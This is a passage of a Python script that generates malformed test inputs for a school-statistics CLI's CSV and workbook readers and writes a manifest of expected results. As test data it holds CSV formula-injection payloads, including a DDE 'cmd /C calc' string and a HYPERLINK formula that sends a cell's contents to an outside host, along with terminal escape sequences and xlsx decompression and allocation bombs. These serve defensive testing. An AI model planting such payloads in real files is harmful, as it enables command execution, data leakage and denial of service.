        ok(8, W + ["rows_left_out"], n=4, missing=4, mean=BASE_MEAN),
        "0 and −50 pupils, 9e307 m², 1e-300 pupils: each school left out is named in a warning "
        "(before: only in missing_lines)")
    # Exports: formula injection and control characters (crates/cli/tests/exports.rs reads them).
    sect("Issue 16 · exports: formulas in CSV cells, control characters on the terminal (read by crates/cli/tests/exports.rs)")
    add("formula_injection_names.csv", utf8(
        "学校名称,学段,在校学生数,教学及辅助用房面积（平方米）\n"
        "\"=HYPERLINK(\"\"http://x.example/?q=\"\"&A1,\"\"点这里\"\")\",小学,100,400\n"
        "+cmd|' /C calc'!A0,小学,200,800\n-2+3,小学,400,3000\n@SUM(1+1),小学,300,2400\n"),
        ok(4, W, n=4, mean=6.6),
        "school names that a spreadsheet would run as formulas (the first two below the 2017 "
        "area standard, so the plan lists them): every CSV export prefixes them with ' (before: "
        "written as they are)")
    plain = [f"{n}小,300,2400" for n in "七八九"] + [f"第{k}小学,300,2400" for k in range(10, 40)]
    add("escape_sequences_in_names.csv", utf8(table(BASE + [
        "\x1b[31m红字小学\x1b[0m,100,400", "\x1b]0;title\x07六小,200,800"] + plain)),
        ok(39, W, n=39),
        "ESC sequences in school names: -f text and plan print them escaped (before: sent to "
        "the terminal, which ran them)")

    # --- issue 16: workbooks (via the CLI) ------------------------------------------------
    sect("Issue 16 · workbooks: the first visible sheet, numbers merged across schools")
    base_rows = [["学校名称", "在校学生数", "教学及辅助用房面积（平方米）"], ["一小", 100, 500], ["二小", 200, 1200],
                 ["三小", 400, 3000], ["四小", 300, 2400]]
    old_rows = [["学校名称", "在校学生数", "教学及辅助用房面积（平方米）"], ["一小", 1, 9999], ["二小", 1, 1]]
    add("hidden_first_sheet.xlsx", workbook([("旧数据", "hidden", sheet_xml(old_rows)), ("学校", "visible", sheet_xml(base_rows))]),
        dict(ok(4, W + ["hidden_sheets"], n=4, mean=BASE_MEAN), via="cli"),
        "the first sheet is hidden (old data): the first visible sheet is read and the warning "
        "says which sheet was read and which are hidden (before: the hidden sheet, mean 5000)")
    merged_rows = [r[:] for r in base_rows]
    merged_rows[3][2] = 5400
    merged_rows[4][2] = None
    add("merged_numeric_cells.xlsx", workbook([("学校", "visible", sheet_xml(merged_rows, merges=["C4:C5"]))]),
        dict(ok(4, W + ["merged_numeric"], n=3, missing=1, mean=7100 / 700), via="cli"),
        "an area merged down two schools (C4:C5 = 5400): counted once, for 三小, and the warning "
        "names the range and both schools (before: 5400 m² for each, counted twice: n=4, mean 12.5)")
    header_only = [["学校名称", "在校学生数", "教学及辅助用房面积（平方米）"], ["一小", 100, 500]]
    sect("Issue 16 · the workbook reader's bounds: an input error (exit 3), never an allocation abort")
    too_large = err("too large to read", "太大")
    add("xlsx_cell_xfd1048576.xlsx", workbook([("学校", "visible", sheet_xml(header_only, extra='<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))]),
        dict(too_large, via="cli"),
        "one cell at XFD1048576: 17 179 869 184 cells once laid out; refused with exit 3 (before: "
        "the CLI aborted, memory allocation failed)")
    add("xlsx_row_4294967295.xlsx", workbook([("学校", "visible", sheet_xml(header_only, extra='<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>'))]),
        dict(too_large, via="cli"),
        "a row numbered 4294967295: refused with exit 3 (before: the CLI aborted)")
    add("xlsx_shared_strings_1e12.xlsx", workbook([("学校", "visible", sheet_xml(header_only))], shared_strings=sst(10 ** 12, ["x"])),
        dict(too_large, via="cli"),
        "sharedStrings declaring 10^12 strings: refused with exit 3 (before: the CLI aborted)")
    add("xlsx_shared_strings_u64_max.xlsx", workbook([("学校", "visible", sheet_xml(header_only))], shared_strings=sst(2 ** 64 - 1, ["x"])),
        dict(too_large, via="cli"),
        "sharedStrings declaring u64::MAX strings: refused with exit 3 (before: capacity overflow)")
    bomb = sheet_xml(header_only).replace("</sheetData>", "</sheetData>" + " " * (256 << 20), 1)
    add("xlsx_inflation_bomb.xlsx", workbook([("学校", "visible", "")], raw_sheet=bomb),
        dict(too_large, via="cli"),
        "a 260 KB workbook whose sheet inflates to 256 MiB: refused before inflating (before: "
        "read in full)")

    # --- generated at test time (no file committed) -----------------------------------------
    recipes = {
        "ten_mb_field.csv": (
            {"recipe": "ten_mb_field", "max_json": 20000} | ok(5, W + ["not_a_number"], n=4, missing=1, mean=BASE_MEAN),
            "the four schools, then one whose area is a 10 MB quoted field of digits and letters; "
            "the warning quotes 60 characters of it, so the report stays small (before: the whole "
            "cell in both languages, a 20 978 118-byte report)",
        ),
        "wide_columns.csv": (
            {"recipe": "wide_columns"} | ok(1, ["numeric_columns_capped", "single_value"], n=1),
            "50 000 numeric columns and one row: read in linear time, the first 1 000 analysed "
            "with a warning (before: quadratic; 20 000 columns took 12.7 s and a 20 MB report, "
            "200 000 did not answer)",
        ),
        "million_columns.csv": (
            {"recipe": "million_columns"} | ok(5, W + ["ragged_row"], n=5, missing=0, mean=7101 / 1001),
            "the four schools, then a row of a million cells (五小,1,1,1,...): read against the header",
        ),
    }
    return c, recipes


def generate():
    files, recipes = cases()
    manifest = {name: expected for name, (_, expected) in sorted(files.items())}
    for name, (expected, note) in recipes.items():
        manifest[name] = dict(expected, note=note)
    out = {name: data for name, (data, _) in files.items()}
    out["expected.json"] = (json.dumps(dict(sorted(manifest.items())), ensure_ascii=False, indent=1) + "\n").encode()
    out["README.md"] = readme({name: manifest[name] for name in list(files) + list(recipes)}).encode()
    for name, data in out.items():
        assert len(data) < 1_000_000, name
    return out


def main():
    check = "--check" in sys.argv[1:]
    files = generate()
    stale = []
    for name, data in sorted(files.items()):
        path = os.path.join(OUT, name)
        if check:
            try:
                with open(path, "rb") as f:
                    if f.read() != data:
                        stale.append(name)
            except FileNotFoundError:
                stale.append(name)
        else:
            os.makedirs(OUT, exist_ok=True)
            with open(path, "wb") as f:
                f.write(data)
    if check:
        extra = sorted(set(os.listdir(OUT)) - set(files)) if os.path.isdir(OUT) else []
        if stale or extra:
            print("stale bad corpus (run python3 tools/gen_bad_corpus.py):", *stale, *extra, sep="\n  ")
            sys.exit(1)
        print(f"{len(files) - 2} bad-input cases up to date")
    else:
        print(f"wrote {len(files) - 2} bad-input cases to {os.path.relpath(OUT, ROOT)}")


if __name__ == "__main__":
    main()
